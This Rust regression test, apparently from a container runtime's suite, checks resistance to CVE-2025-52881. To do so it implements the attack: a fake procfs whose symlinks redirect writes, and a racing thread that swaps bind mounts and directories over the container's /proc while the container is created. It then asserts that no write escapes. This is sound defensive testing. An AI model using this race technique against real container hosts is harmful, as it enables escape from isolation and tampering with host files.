//! CVE-2025-52881: a process beside the container that swaps a shared mount while the container is
//! created or joined, so that what the runtime writes for /proc ends in another file.

use super::container::{Container, is_ours, skip};
use super::escapes::rounds;
use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sys::statfs::{PROC_SUPER_MAGIC, statfs};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};

const NONE: Option<&str> = None;
/// The setting that is asked for, and where it lies below /proc.
const SETTING: &str = "sys/net/ipv4/ip_default_ttl";
const TTL: &str = "77";
const SCORE: &str = "500";

/// A shared tmpfs of the host; dropped, it and all on it is unmounted.
struct Shared(PathBuf);

impl Shared {
    fn mount(at: &Path) -> Self {
        mount(Some("t"), at, Some("tmpfs"), MsFlags::empty(), NONE).unwrap();
        mount(NONE, at, NONE, MsFlags::MS_SHARED, NONE).unwrap();
        Self(at.to_owned())
    }
}

impl Drop for Shared {
    fn drop(&mut self) {
        umount2(&self.0, MntFlags::MNT_DETACH).ok();
    }
}

/// What lies about where a procfs belongs: files that swallow a write, links that pass it on.
fn fake_proc(at: &Path, target: &Path) {
    for directory in ["self/attr/apparmor", "thread-self/attr", "sys/net/ipv4", "1", "acpi"] {
        fs::create_dir_all(at.join(directory)).unwrap();
    }
    for file in ["self/attr/exec", "self/oom_score_adj", "1/oom_score_adj", "interrupts"] {
        fs::write(at.join(file), "fake").unwrap();
    }
    symlink(target, at.join(SETTING)).unwrap();
    symlink(target, at.join("thread-self/attr/exec")).unwrap();
}

/// The process that races: `fake` comes and goes where the root has its /proc, on every peer of
/// that mount; and the volume's directory `place`, on which the container mounts something, is
/// exchanged for a link to /proc.
fn swap(fake: &Path, root: &Path, volume: &Path, stop: &AtomicBool) {
    let (proc, place, link) = (root.join("proc"), volume.join("place"), volume.join("link"));
    while !stop.load(Ordering::Relaxed) {
        mount(Some(fake), &proc, NONE, MsFlags::MS_BIND, NONE).unwrap();
        renameat2(AT_FDCWD, &place, AT_FDCWD, &link, RenameFlags::RENAME_EXCHANGE).unwrap();
        std::thread::yield_now();
        umount2(&proc, MntFlags::MNT_DETACH).unwrap();
    }
}

fn bind(destination: &str, source: &Path, options: &[&str]) -> Value {
    json!({"destination": destination, "type": "bind", "source": source, "options": options})
}

/// What every write must have come to in a container whose first process is `pid`.
fn assert_in_force(pid: &str) {
    let proc = statfs(format!("/proc/{pid}/root/proc").as_str()).unwrap();
    assert_eq!(proc.filesystem_type(), PROC_SUPER_MAGIC, "/proc of the container is covered");
    let score = fs::read_to_string(format!("/proc/{pid}/oom_score_adj")).unwrap();
    assert_eq!(score.trim(), SCORE, "the OOM score went elsewhere");
    let read = format!("cat /proc/{SETTING}");
    let output = Command::new("nsenter").args(["-n", "-t", pid, "sh", "-c", &read]).output();
    let output = output.unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), TTL, "the setting went elsewhere");
}

#[test]
fn a_swapped_mount_redirects_no_write() {
    if !is_ours() {
        return skip("others fail more often than they are redirected");
    }
    let Some(mut container) = Container::shell("exec sleep 1000") else { return };
    let outside = tempfile::tempdir().unwrap();
    let (target, fake) = (outside.path().join("target"), outside.path().join("fake"));
    fs::write(&target, "untouched").unwrap();
    fake_proc(&fake, &target);
    // The root lies on a shared mount: what is mounted beside appears in every copy of it.
    let root = container.bundle.path().join("shared");
    fs::create_dir(&root).unwrap();
    let _shared = Shared::mount(&root);
    assert!(
        Command::new("cp")
            .arg("-a")
            .arg(container.rootfs().join("bin"))
            .arg(&root)
            .status()
            .unwrap()
            .success()
    );
    fs::create_dir(root.join("proc")).unwrap();
    let volume = root.join("volume");
    fs::create_dir_all(volume.join("place")).unwrap();
    symlink("/proc", volume.join("link")).unwrap();
    container.push("/mounts", bind("/v", &volume, &["rbind", "rslave"]));
    container.push("/mounts", bind("/v/place", &fake, &["bind"]));
    container.set("/root", json!({"path": "shared"}));
    container.set("/process/oomScoreAdj", json!(500));
    container.set("/linux/sysctl", json!({"net.ipv4.ip_default_ttl": TTL}));
    container.set("/linux/maskedPaths", json!(["/proc/interrupts", "/proc/acpi"]));
    container.set("/linux/readonlyPaths", json!(["/proc/sys"]));
    let stop = AtomicBool::new(false);
    let mut created = 0;
    std::thread::scope(|scope| {
        let racer = scope.spawn(|| swap(&fake, &root, &volume, &stop));
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            for _ in 0..rounds(15) {
                // A refusal is fine, a container whose writes went astray is not.
                if container.create(&[]).status == 0 {
                    created += 1;
                    assert_in_force(&container.state()["pid"].to_string());
                    container.must(&["start"], &[]);
                    drop(container.verb(&["exec"], &["true"]));
                }
                drop(container.verb(&["delete", "--force"], &[]));
                assert_eq!(fs::read_to_string(&target).unwrap(), "untouched", "written outside");
            }
        }));
        stop.store(true, Ordering::Relaxed);
        racer.join().unwrap();
        result.unwrap_or_else(|panic| std::panic::resume_unwind(panic));
    });
    for file in ["self/attr/exec", "self/oom_score_adj", "1/oom_score_adj", "interrupts"] {
        assert_eq!(fs::read_to_string(fake.join(file)).unwrap(), "fake", "{file} was written to");
    }
    assert!(created > 0, "no round came to a container");
    container.assert_gone();
}
